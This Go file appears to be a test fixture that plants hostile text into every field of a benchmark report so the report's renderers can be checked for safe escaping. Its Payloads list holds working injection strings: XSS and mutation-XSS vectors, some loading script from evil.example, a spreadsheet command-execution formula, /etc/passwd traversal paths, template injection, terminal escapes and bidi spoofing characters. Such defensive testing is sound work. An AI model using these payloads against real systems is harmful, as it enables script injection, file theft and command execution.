// Package hostile is a run in which every text is somebody's attempt to make a
// report do something: for tests of the report's outputs.
package hostile

import (
	"slices"
	"strings"
	"time"

	"conpar/report/claims"
	"conpar/report/series"
	"conpar/results"
)

// The workloads that a report puts at its top.
const (
	waiting   = "IO/work=tcp"
	computing = "CPU/work=primes"
)

// At returns what stands in a place at a turn: another payload at each, and
// behind it where it was planted. In as many turns as there are payloads each
// stands once in each place; a few turns plant each in some.
func At(turn int, place string) string {
	return Payloads[(turn+slices.Index(Places, place)*len(Payloads)/len(Places))%len(Payloads)] + " harmless " + place
}

// Harmless is what stands in a place of a harmless run of the same shape.
func Harmless(place string) string { return "harmless " + place }

// Payloads are texts that would do something if a writer let them.
var Payloads = []string{
	// HTML
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<img src=//evil.example/x.png>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<object data=//evil.example></object>`, `<embed src=//evil.example>`,
	`<form action=//evil.example><input name=a autofocus onfocus=alert(1)><button>`, `<details open ontoggle=alert(1)>`, `<body onpageshow=alert(1)>`,
	`<marquee onstart=alert(1)>`, `<video src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" &#106;avascript:alert(1)">x</a>`,
	`</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `</textarea><img src=x onerror=alert(1)>`,
	`</td></tr></table></main></body></html><script>alert(1)</script>`, `</dd></dl></details><h1>owned</h1>`, `<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `]]><script>alert(1)</script>`, `<?xml-stylesheet href="//evil.example"?>`, `<!DOCTYPE x [<!ENTITY e "x">]>&e;`,
	// mutation
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<select><template><img src=x onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<x/><img/src=x/onerror=alert(1)>`, `<<script>alert(1)//<</script>`,
	// attributes and addresses
	`" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "` onclick=`alert(1)", `"><svg onload=alert(1)>`, `x" style="background:url(//evil.example)`,
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)//`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/x`, `file:///etc/passwd`, `../../../etc/passwd`,
	// SVG
	`<svg onload=alert(1)>`, `<svg><script xlink:href="data:,alert(1)"/></svg>`, `<foreignObject><iframe src=//evil.example></foreignObject>`,
	`<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/>`, `<animate onbegin=alert(1) attributeName=x dur=1s>`, `<set attributeName=href to=javascript:alert(1)>`,
	`</text></g></svg><script>alert(1)</script>`, `<a xlink:href="javascript:alert(1)"><text>x</text></a>`, `<image href=//evil.example/x.png>`, `</title></desc><style>@import '//evil.example'</style>`,
	// style sheets
	`url(//evil.example/x)`, `expression(alert(1))`, `};*{background:url(//evil.example)}`, `@import url(//evil.example)`, `</style><style>*{display:none}`, `red;-moz-binding:url(//evil.example)`,
	// templates
	`{{.}}`, `{{template "page"}}`, `{{printf "%s" .Style}}`, `${alert(1)}`, `<%= 1 %>`, `#{1}`, `%s%n%d`,
	// entities
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;img src=x onerror=alert(1)&amp;gt;`, `&NewLine;&Tab;javascript&colon;alert(1)`, `&#x202e;gnp.exe`,
	// Markdown
	`[x](javascript:alert(1))`, `![x](//evil.example/x.png)`, `[x]: //evil.example`, `<https://evil.example>`, `https://evil.example/x`, `see http://evil.example/x.`, `www.evil.example`, `ftp://evil.example`, `mailto:a@evil.example`, `a@evil.example`,
	`| a | b |`, `x | y`, `\| x`, `\\| x`, "```\ncode", "~~~", "`code`", "``x` y", `**bold** __bold__`, `*a* _a_`, `~~gone~~`, `# heading`, `###### heading`, `> quotation`, `- item`, `+ item`, `* item`, `1. item`, `1) item`,
	`- [ ] task`, `[ ] task`, `---`, `***`, `===`, `    code`, `[^1]`, `[^1]: note`, `$\href{javascript:alert(1)}{x}$`, `<details><summary>x`, `<!-- -->`, `\`, `\\`, `!`, `x  `, "x\n\n# heading", "x\r\n- item", "x\n|---|", `:---:`, `&nbsp;x`,
	// spreadsheets
	`=cmd|'/C calc'!A0`, `=HYPERLINK("//evil.example","x")`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1`, `－1`, `＠SUM(1)`, ` =1+1`, `"=1+1`, `;=1+1`, `,=1+1`, `",=1+1,"`, `'=1+1`, "x\n=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
	// terminals
	"\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;//evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q\x1b\\", "\u009b31mred", "\u009d0;title\u009c", "a\bb", "a\rb", "\a", "\v\f", "\x7f", "\x0e\x0f", "\x00", "a\x00b",
	// invisible and turning
	"\u202egnp.exe", "\u202da", "\u2066a\u2069", "\u2067a", "\u2068a", "a\u200fb", "a\u200eb", "a\u061cb", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u180eb", "a\u034fb", "a\u3164b", "a\u115fb", "a\uffa0b",
	"a\U000e0041b", "a\U000e0100b", "a\ufe0fb", "a\u2028b", "a\u2029b", "a\u0085b", "a\ufffeb", "a\ufff9b", "a\u206ab",
	// not text at all
	"a\xffb", "\xc0\xbcscript\xc0\xbe", "\xed\xa0\x80", "\xf4\x90\x80\x80", "+ADw-script+AD4-",
	// long
	strings.Repeat("A", 10_000), strings.Repeat("<b>", 3000), strings.Repeat("\"'`|\\", 1000), strings.Repeat("\u202e", 2000), strings.Repeat("= ", 2000),
}

// Places is where a payload can stand in what was measured.
var Places = []string{
	"name", "value", "key", "family", "unit", "label", "path", "machine", "cpu", "goos", "goarch", "go", "pkg", "note",
	"status", "profile", "kind", "dropped", "failure", "failed cell", "trace file", "trace cell", "warning", "warned file",
	"hazard", "hazard state", "hazard found", "condition", "forced",
}

// Planted is a run with a text of text in every place.
func Planted(text func(place string) string) *series.Data {
	source := series.Source{Label: text("label"), Path: text("path"), Config: map[string]string{}}
	for _, key := range []string{"machine", "cpu", "goos", "goarch", "go", "pkg", "note"} {
		source.Config[key] = text(key)
	}
	names := []string{waiting, computing, text("name"), "X/work=" + text("value"), "X/" + text("key") + "=1", text("family") + "/work=w"}
	run := &series.Run{
		Run: results.Run{
			Status: results.Status(text("status")), Started: time.Date(2026, 11, 24, 17, 21, 12, 0, time.UTC),
			Machine: results.Machine{CPUs: 2}, Plan: results.Plan{Profile: text("profile"), Rounds: 12},
			Planned: 900, Actual: 900,
			Hazards: []results.Hazard{
				{Name: text("hazard"), State: results.HazardState(text("hazard state")), Found: text("hazard found")},
				{Name: "swap", State: results.Warn, Found: text("hazard found")},
			},
			Conditions: []results.RoundHazards{{Hazards: []results.Hazard{
				{Name: text("condition"), State: results.Warn, Found: text("condition")},
			}}},
			Forced: []results.Forced{{Changed: []string{text("forced")}}},
		},
		Foreign: 0.01, Steal: 0.01,
		Kinds: map[string]string{waiting: "waiting", computing: "computing"}, Cells: map[series.Key]int{},
		Dropped: map[string]string{},
		Failures: []series.Failure{
			{Cell: "BenchmarkX/work=a/goroutines=1", Round: 2, Reason: text("failure")},
			{Cell: text("failed cell"), Round: 2, Reason: "killed"},
		},
		Traces: []series.Timeline{{
			Trace: results.Trace{Name: text("trace file"), Cell: text("trace cell")}, Steps: 8, RunningMax: 2, Makespan: 1e6,
		}},
	}
	source.Run = run
	for _, name := range names[2:] {
		run.Kinds[name] = text("kind")
	}
	for _, c := range claims.Needs(2) {
		if strings.HasPrefix(c.String(), "BenchmarkLang/") {
			run.Dropped[c.String()] = text("dropped")
		}
	}
	d := &series.Data{Warnings: []series.Warning{{File: text("warned file"), Line: 3, Text: text("warning")}}}
	for i, name := range names {
		for _, c := range [][2]int{{1, 1}, {2, 1}, {8, 1}, {64, 1}, {2, 2}, {8, 2}, {64, 2}} {
			run.Cells[series.Key{Name: name, Goroutines: c[0], Procs: c[1]}] = 1
			source.Add(somePoint(series.Key{Name: name, Goroutines: c[0], Procs: c[1]}, i, text("unit")))
		}
	}
	d.Sources = []series.Source{source}
	return d
}

// somePoint is a cell with 12 rounds that scatter a little.
func somePoint(k series.Key, work int, unit string) *series.Measurement {
	p, units := &series.Measurement{Key: k}, map[string][]float64{}
	gain := float64(k.Procs)
	if work == 0 {
		gain = float64(k.Goroutines)
	}
	for round := range 12 {
		noise := 1 + 0.001*float64((round*7+k.Goroutines+k.Procs)%5)
		p.Rounds = append(p.Rounds, round)
		p.Foreign = append(p.Foreign, 0.01)
		for u, v := range map[string]float64{"sec/op": 0.01 / gain * noise, "tasks/s": 100 * gain / noise, "inflight": float64(k.Goroutines), "cpus": float64(k.Procs) * noise / 1.01, unit: 5 * noise} {
			units[u] = append(units[u], v)
		}
	}
	p.Units = series.UnitsOf(units)
	return p
}
